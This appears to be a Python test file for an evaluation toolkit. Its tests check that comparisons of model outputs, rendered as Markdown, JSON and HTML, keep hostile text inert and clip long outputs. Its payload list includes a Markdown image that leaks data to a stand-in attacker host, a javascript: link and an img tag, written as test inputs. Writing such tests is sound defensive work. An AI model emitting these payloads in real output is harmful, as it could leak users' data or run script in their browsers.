"""Compare outputs (Markdown for PR comments, JSON, HTML) keep model text inert and bounded."""

from __future__ import annotations

import json
import re
from pathlib import Path

from evalkit import load, make_run, ok, sample

from lm_eval_so import compare_runs
from lm_eval_so._internal.evaluator import evaluate_run
from lm_eval_so._internal.evaluator.compare_render import CLIP_HTML, to_html, to_json, to_markdown

CONFIG = "  metrics:\n    - type: exact_match\n"
PAYLOADS = [
    "![x](https://attacker.example/leak.png?data=secret)",
    "[click](javascript:alert(1))",
    "<img src=https://attacker.example/p.gif>",
    "<https://attacker.example/auto>",
    "see https://attacker.example/bare",
    "cc @octocat and fixes #123",
    "<!-- hidden -->",
    "a | b `code` \\\\",
]


def run_with_outputs(root: Path, outputs: list[str], *, right: bool) -> Path:
    samples = [sample(f"s{i}", expected="yes") for i in range(len(outputs))]
    results = [ok(f"s{i}", "yes" if right else text) for i, text in enumerate(outputs)]
    built = make_run(root, samples, results)
    evaluate_run(load(CONFIG, root), built.run, built.dataset)
    return built.run.path


def test_markdown_of_a_comparison_cannot_link_embed_or_mention(tmp_path: Path) -> None:
    a = run_with_outputs(tmp_path / "a", PAYLOADS, right=True)
    b = run_with_outputs(tmp_path / "b", PAYLOADS, right=False)
    markdown = to_markdown(compare_runs(a, b))
    outside_code = re.sub(r"(`+).*?\1", "", markdown)  # what GitHub would interpret
    for live in ("](", "<img", "<https", "https://", "@octocat", "#123", "<!--"):
        assert live not in outside_code, (live, markdown)
    for payload_start in ("![x]", "[click]", "@octocat"):
        assert payload_start in markdown  # still shown, as code


def test_json_of_a_comparison_is_strict_whatever_the_text(tmp_path: Path) -> None:
    a = run_with_outputs(tmp_path / "a", ["ok"], right=True)
    b = run_with_outputs(tmp_path / "b", ["bad \u2028 line"], right=False)
    text = to_json(compare_runs(a, b))
    assert "\u2028" not in text and json.loads(text)["regressions"][0]["output_b"] == "bad \u2028 line"


def test_html_of_a_comparison_clips_long_outputs(tmp_path: Path) -> None:
    long = "x" * (CLIP_HTML * 5)
    a = run_with_outputs(tmp_path / "a", ["ok"], right=True)
    b = run_with_outputs(tmp_path / "b", [long], right=False)
    page = to_html(compare_runs(a, b))
    assert long not in page and "x" * CLIP_HTML in page and "10,000 characters in all" in page
